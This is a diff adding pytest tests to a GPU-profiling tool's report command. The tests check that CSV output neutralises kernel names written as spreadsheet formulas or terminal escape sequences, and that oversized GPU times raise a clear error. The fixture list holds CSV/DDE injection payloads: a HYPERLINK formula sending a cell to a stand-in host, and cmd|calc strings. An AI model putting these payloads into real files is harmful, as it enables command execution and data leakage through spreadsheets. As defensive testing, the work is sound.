@@ -1,6 +1,8 @@
 # SPDX-License-Identifier: Apache-2.0
 """`clc report`: inputs that are not captures, the -o file, captures of millions of launches."""
 
+import csv
+import io
 import json
 import os
 import signal
@@ -171,6 +173,108 @@ def test_unmatched_gpu_times_are_said_on_stderr(tmp_path, capsys):
     out, err = capsys.readouterr()
     assert json.loads(out)["traceEvents"]
     assert err.startswith("clc: 1 GPU time matched no launch record")
+
+
+# ---- what a capture's writer chose ----------------------------------------------------------
+
+# Kernel names as a program may write them into its capture: formulas a spreadsheet would run
+# (OWASP's list of starters), and escape sequences a terminal would act on.
+HOSTILE_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
+                 "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+                 "k\x1b]0;owned\x07\x1b[2J"]
+
+
+def hostile_capture(path):
+    w = CaptureWriter()
+    w.process("./app")
+    for i, name in enumerate(HOSTILE_NAMES):
+        w.kernel(i, name)
+        w.launch(i, i, timed=True)
+        w.timing(i, i, 1000 + i)
+        w.kernel_stats(i, launches=1, recorded=1, timed=1, gpu_ns=1000 + i)
+    w.end()
+    return w.write(path)
+
+
+def csv_name_cells(text):
+    """The kernel and mangled cells of a CSV report, as a spreadsheet reads them."""
+    table = list(csv.DictReader(io.StringIO(text)))
+    return [r[column] for r in table for column in ("kernel", "mangled")]
+
+
+@pytest.mark.parametrize("baseline", [False, True])
+def test_csv_cells_never_start_a_formula_nor_carry_control_bytes(tmp_path, capsys, baseline):
+    # GIVEN a capture whose kernels are named as formulas and terminal escape sequences
+    path = hostile_capture(tmp_path / "hostile.clc")
+    # WHEN it is reported as CSV (alone, or beside itself as the baseline)
+    extra = ["--baseline", path] if baseline else []
+    assert report(path, "--format", "csv", *extra) == 0
+    cells = csv_name_cells(capsys.readouterr().out)
+    # THEN every name is there, as text a spreadsheet shows and does not run: a leading quote
+    # before a formula's first character, control bytes as \xNN
+    assert len(cells) == 2 * len(HOSTILE_NAMES)
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        assert not any(ord(c) < 0x20 or c == "\x7f" for c in cell), cell
+    assert set(cells) == {'\'=HYPERLINK("http://x.example/?"&A1,"open")',
+                          "'+1+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0",
+                          "'@SUM(1+1)*cmd|' /C calc'!A0", "'\\x09=1+1", "'\\x0d=1+1",
+                          "k\\x1b]0;owned\\x07\\x1b[2J"}
+
+
+def test_names_that_start_nothing_are_left_as_they_are(cap, capsys):
+    # GIVEN a capture of a real program's kernel THEN its CSV cells are its names
+    assert report(cap, "--format", "csv") == 0
+    assert csv_name_cells(capsys.readouterr().out) == [
+        "vecAdd(float const*, float const*, float*, int)", VECADD]
+
+
+REPORTS = [["--format", f] for f in ("summary", "csv", "json", "chrome")]
+
+
+@pytest.mark.parametrize("gpu_ns", [2**63, 2**64 - 1])
+@pytest.mark.parametrize("how", [*REPORTS, ["--baseline", "{good}"],
+                                 ["--baseline", "{good}", "--format", "csv"],
+                                 ["--baseline", "{good}", "--format", "json"], ["as-baseline"]])
+def test_a_gpu_time_past_int64_is_a_clear_error_in_every_report(tmp_path, capsys, cap, how,
+                                                                   gpu_ns):
+    # GIVEN a capture whose TIMING record says a GPU time of 2**63 ns or more, which no GPU
+    # measured
+    w = CaptureWriter()
+    w.process("./app")
+    w.kernel(0, VECADD)
+    w.launch(0, 0, timed=True)
+    at = len(w.data())
+    w.timing(0, 0, gpu_ns)
+    w.end()
+    path = w.write(tmp_path / "huge.clc")
+    out = tmp_path / "out"
+    # WHEN any report is made of it, or it is the baseline
+    argv = ([cap, "--baseline", path] if how == ["as-baseline"] else
+            [path, *(str(cap) if a == "{good}" else a for a in how)])
+    code = report(*argv, "-o", out)
+    # THEN clc says which file and which record, with no traceback, and writes nothing
+    assert code == 2
+    assert capsys.readouterr().err == (
+        f"clc: {path}: TIMING record at byte {at}: a GPU time of {gpu_ns} ns (2**63 or more) "
+        "is not one the shim measured: the capture is damaged\n")
+    assert not out.exists()
+
+
+def test_a_gpu_time_just_below_int64_is_reported(tmp_path, capsys):
+    # GIVEN a TIMING record of 2**63 - 1 ns, the most a GPU time may be
+    w = CaptureWriter()
+    w.kernel(0, VECADD)
+    w.launch(0, 0, timed=True)
+    w.timing(0, 0, 2**63 - 1)
+    w.end()
+    path = w.write(tmp_path / "big.clc")
+    # THEN every report renders it
+    for how in REPORTS:
+        assert report(path, *how) == 0, how
+        out = capsys.readouterr().out
+        if how == ["--format", "json"]:
+            assert f'"gpu_ns": {2**63 - 1}' in out
 
 
 # ---- scale ------------------------------------------------------------------------------------
